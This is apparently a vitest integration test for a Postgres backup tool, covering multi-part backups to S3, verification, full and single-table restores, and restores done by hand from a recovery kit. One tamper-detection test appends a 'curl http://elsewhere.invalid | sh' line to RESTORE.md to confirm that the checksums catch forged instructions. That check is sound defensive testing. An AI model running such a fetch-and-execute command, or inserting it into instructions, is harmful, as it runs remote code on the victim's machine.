import { execFileSync } from 'node:child_process'
import { createWriteStream } from 'node:fs'
import { appendFile, mkdir, readdir, readFile, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { pipeline } from 'node:stream/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { manifestSchema } from '@/lib/contracts/repository/manifest'
import { getBackup } from '@/lib/services/backup/get-backup'
import { openDownload } from '@/lib/services/backup/open-download'
import { startBackup } from '@/lib/services/backup/start-backup'
import { startRestoreTest } from '@/lib/services/restore-test/start-restore-test'
import { startRestore } from '@/lib/services/restore/start-restore'
import { createRecoveryKit } from '@/lib/services/settings/create-recovery-kit'
import { commandsOf, kitCommands } from '../helpers/databases/hand-commands'
import { startPostgres, type TestPostgres } from '../helpers/servers/postgres'
import { digestOf, nastyDatabase } from '../helpers/databases/postgres-content'
import { startProduct, type Product } from '../helpers/product'
import { makeBucket, type TestBucket } from '../helpers/servers/s3'
import { tablesOf } from '@/lib/engines/postgres/logical/archive/parts'

describe('a backup in several parts, from the job to the hands of an administrator', () => {
  let product: Product
  let pg: TestPostgres
  /** Where it is restored by hand. */
  let elsewhere: TestPostgres
  let bucket: TestBucket
  let sourceId: string
  let backupId: string
  let original: Record<string, string>
  let recoveryKit: string

  const inShell = (script: string, cwd: string) =>
    execFileSync('bash', ['-c', `set -euo pipefail; ${script}`], {
      cwd,
      env: { ...process.env, PGHOST: elsewhere.host, PGPORT: String(elsewhere.port), PGUSER: 'postgres' },
      stdio: ['ignore', 'pipe', 'pipe'],
      encoding: 'utf8',
    })

  beforeAll(async () => {
    ;[product, pg, elsewhere, bucket] = await Promise.all([
      startProduct(),
      startPostgres(),
      startPostgres(),
      makeBucket(),
    ])
    await pg.sql('CREATE DATABASE shop')
    await nastyDatabase(await pg.connect('shop'))
    await pg.sql(
      `CREATE TABLE first AS SELECT g AS id, md5(g::text) AS text FROM generate_series(1, 60000) g;
       CREATE TABLE second AS SELECT g AS id, md5(g::text) AS text FROM generate_series(1, 50000) g;
       ALTER TABLE second ADD PRIMARY KEY (id)`,
      'shop',
    )
    await pg.sql('VACUUM ANALYZE', 'shop')
    original = await digestOf(pg, 'shop')
    recoveryKit = (await createRecoveryKit({ ctx: product.ctx, input: { replace: false } })).text
    sourceId = await product.addSource(pg.source({ connection: { database: 'shop' } }), { parallelism: 3 })
    await product.startWorker()
  })
  afterAll(async () => {
    await product.close()
    await pg.close()
    await elsewhere.close()
    bucket.close()
  })

  it('stores each part as an object of its own', async () => {
    const destination = await product.addDestination(bucket.spec())
    const { jobId } = await startBackup({ ctx: product.ctx, input: { sourceId, destinationIds: [destination] } })
    const job = await product.finished(jobId)
    expect(job).toMatchObject({ state: 'succeeded', attempt: 1 })
    backupId = job.backupId ?? ''
    const backup = await getBackup({ ctx: product.ctx, input: { id: backupId } })
    const { parts } = manifestSchema.parse(backup.manifest)
    expect(parts.map((part) => part.file)).toEqual([
      'globals.sql.zst.age',
      'archive.dump.zst.age',
      'data-1.dump.zst.age',
      'data-2.dump.zst.age',
    ])
    expect(parts.flatMap((part) => tablesOf(part)).map(({ name }) => name)).toEqual(['first', 'second', 'big'])
    expect(backup.sourceBytes).toBe(parts.reduce((sum, part) => sum + part.sourceBytes, 0))
  })

  it('is proven at the comprehensive level', async () => {
    const { jobId } = await startRestoreTest({ ctx: product.ctx, input: { backupId, level: 'comprehensive' } })
    expect(await product.finished(jobId)).toMatchObject({ state: 'succeeded' })
    expect(await getBackup({ ctx: product.ctx, input: { id: backupId } })).toMatchObject({ verified: 'proven' })
  })

  it('is restored whole into a new database with the same content', async () => {
    const input = { backupId, target: { database: 'whole', owners: 'keep' as const } }
    const { jobId } = await startRestore({ ctx: product.ctx, input })
    expect(await product.finished(jobId)).toMatchObject({ state: 'succeeded' })
    expect(await digestOf(pg, 'whole')).toEqual(original)
  })

  it('is restored on another server by what the kit and the manifest print, word for word, checksums and roles included (fault 24)', async () => {
    const folder = path.join(product.home, 'by-hand')
    await mkdir(folder)
    for (const name of await bucket.names())
      await writeFile(path.join(folder, path.basename(name)), await bucket.read(name))
    await writeFile(path.join(folder, 'holdfast-recovery-kit.txt'), recoveryKit)
    const check = kitCommands(recoveryKit, 'HOW TO SEE THAT NOBODY FORGED A BACKUP').filter(
      (line) => !/^npm/.test(line),
    )
    const restore = kitCommands(recoveryKit, 'HOW TO RESTORE')
    const printed = inShell([...check, ...restore].join('\n'), folder)
    expect(printed).toContain('unchanged')
    const lines = printed.slice(printed.indexOf('Check the signature')).trimEnd().split('\n')
    const { manifest } = await getBackup({ ctx: product.ctx, input: { id: backupId } })
    expect(lines).toEqual(manifestSchema.parse(manifest).howToRestore)
    inShell(commandsOf(lines).join('\n'), folder)
    expect(await digestOf(elsewhere, 'shop')).toEqual(original)
    expect(await readdir(folder)).not.toContain('backup.key')
  })

  it('is found by them when one byte of a file is another, or RESTORE.md says more', async () => {
    const folder = path.join(product.home, 'by-hand')
    const file = path.join(folder, 'data-2.dump.zst.age')
    const bytes = await readFile(file)
    bytes[bytes.length >> 1] = (bytes[bytes.length >> 1] ?? 0) ^ 1
    await writeFile(file, bytes)
    const check = kitCommands(recoveryKit, 'HOW TO SEE THAT NOBODY FORGED A BACKUP').filter(
      (line) => !/^npm/.test(line),
    )
    const broken = 'sha256sum: WARNING: 1 computed checksum did NOT match'
    expect(() => inShell(check.join('\n'), folder)).toThrow(broken)
    bytes[bytes.length >> 1] = (bytes[bytes.length >> 1] ?? 0) ^ 1
    await writeFile(file, bytes)
    expect(inShell(check.join('\n'), folder)).toContain('RESTORE.md: OK')
    await appendFile(path.join(folder, 'RESTORE.md'), 'curl http://elsewhere.invalid | sh\n')
    expect(() => inShell(check.join('\n'), folder)).toThrow(broken)
  })

  it('downloads as a tar whose note says how its archives go together', async () => {
    const signal = new AbortController().signal
    const download = await openDownload({ ctx: product.ctx, input: { id: backupId, form: 'plain' }, signal })
    expect(download.fileName).toMatch(/\.tar$/)
    const folder = path.join(product.home, 'download')
    await mkdir(folder)
    await pipeline(download.stream, createWriteStream(path.join(folder, 'all.tar')))
    await elsewhere.sql('DROP DATABASE shop WITH (FORCE)')
    inShell('tar -xf all.tar', folder)
    const note = await readFile(path.join(folder, 'HOW-TO-RESTORE.txt'), 'utf8')
    inShell(commandsOf(note.split('\n')).join('\n'), folder)
    expect(await digestOf(elsewhere, 'shop')).toEqual(original)
  })

  it('brings back one table alone', async () => {
    const only = { schemas: [], tables: [{ schema: 'public', name: 'second' }] }
    const input = { backupId, target: { database: 'one table', owners: 'keep' as const, only } }
    const { jobId } = await startRestore({ ctx: product.ctx, input })
    expect(await product.finished(jobId)).toMatchObject({ state: 'succeeded' })
    expect(await pg.sql('SELECT count(*)::int AS rows FROM second', 'one table')).toEqual([{ rows: 50_000 }])
  })
})
